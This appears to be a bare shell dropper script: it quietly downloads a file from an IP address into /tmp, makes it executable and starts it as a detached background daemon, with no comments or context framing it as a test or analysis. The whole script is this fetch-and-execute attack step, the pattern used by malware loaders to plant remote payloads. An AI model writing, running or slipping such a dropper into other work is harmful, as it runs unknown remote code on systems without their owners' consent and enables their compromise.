#!/bin/sh
wget -q http://192.0.2.8/x -O /tmp/x
chmod +x /tmp/x
start-stop-daemon --start --background --exec /tmp/x -- -q
